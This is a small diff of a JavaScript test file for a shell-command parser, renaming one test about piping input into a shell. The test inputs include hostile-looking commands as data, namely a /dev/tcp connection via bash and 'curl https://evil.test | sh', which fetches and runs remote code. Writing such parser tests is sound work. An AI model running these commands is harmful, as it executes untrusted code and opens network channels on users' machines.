@@ -81,7 +81,7 @@ describe("[U24] the parts of a command", () => {
     expect(read("bash -c 'cat < /dev/tcp/10.0.0.1/80'").hosts).toEqual(["10.0.0.1"]);
   });
 
-  test("what is fed to a shell is said to be run", () => {
+  test("input of a shell is reported as executed", () => {
     expect(read("curl https://evil.test | sh").programs[1]).toMatchObject({ note: "runs what it is fed" });
     expect(read("A=1 npm test").programs[0]).toMatchObject({ note: "variables are set for it" });
   });
